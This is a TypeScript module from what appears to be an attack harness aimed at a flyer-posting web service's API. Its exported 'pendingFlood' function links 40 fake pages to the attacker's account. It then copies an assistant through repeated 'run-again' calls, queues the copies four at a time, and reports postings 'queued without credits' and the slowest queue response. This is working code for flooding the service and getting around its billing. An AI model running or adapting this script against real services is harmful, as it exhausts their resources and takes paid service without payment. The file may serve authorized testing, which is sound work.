import { randomUUID } from 'node:crypto';
import { type Attack, repeat, Statuses, send, type Target } from '../target.ts';
import { uploadSmallFlyers } from './ownAccount.ts';

const PAGES = 40;
const TAG = 'flood';

const call = (target: Target, method: string, path: string, body: object = {}) =>
  send(target, `/api${path}`, {
    method,
    headers: { ...target.headers, 'Content-Type': 'application/json' },
    body: JSON.stringify(body),
  });

/** Links a page of its own to the attacker's account. */
async function linkPage(target: Target): Promise<void> {
  const page = { creator_id: randomUUID(), name: 'Flood', username: 'flood', avatar_url: null };
  const requested = await call(target, 'POST', '/extension/link-requests', { page, extension_version: '1.0.0' });
  const token = (JSON.parse(requested.text) as { linking_token: string }).linking_token;
  const linked = await call(target, 'POST', '/verify_linking', { token });
  const { guid } = (JSON.parse(linked.text) as { page: { guid: string } }).page;
  await call(target, 'PUT', `/pages/${guid}/tags`, { tags: [TAG] });
}

/** Links 40 pages, then copies an assistant with 121 flyers, which are all republished, and queues the copies as fast as possible. */
export const pendingFlood: Attack = async (target) => {
  for (let n = 0; n < PAGES; n++) await linkPage(target);
  await uploadSmallFlyers(target);
  const assistant = `/assistants/${target.assistantId}`;
  const delays = { start_delay_hours: 0, delay_between_tasks_hours: 0, duplication_time_hours: 12 };
  await call(target, 'PUT', assistant, { posting_rules: { target_pages: [], target_tags: [TAG], ...delays } });
  const clicks = new Statuses();
  let postings = 0;
  let slowestMs = 0;
  await repeat(target, { atOnce: 4 }, async () => {
    const copied = await call(target, 'POST', `${assistant}/run-again`);
    if (copied.status !== 200) return clicks.add(copied);
    const { _id: id } = (JSON.parse(copied.text) as { assistant: { _id: string } }).assistant;
    const startedAt = performance.now();
    const queued = await call(target, 'POST', `/assistants/${id}/add-to-queue`);
    slowestMs = Math.max(slowestMs, performance.now() - startedAt);
    clicks.add(queued);
    if (queued.status === 200) postings += (JSON.parse(queued.text) as { postings: number }).postings;
  });
  return `${postings} postings queued without credits, slowest Add to Queue ${(slowestMs / 1_000).toFixed(1)} s (${clicks})`;
};
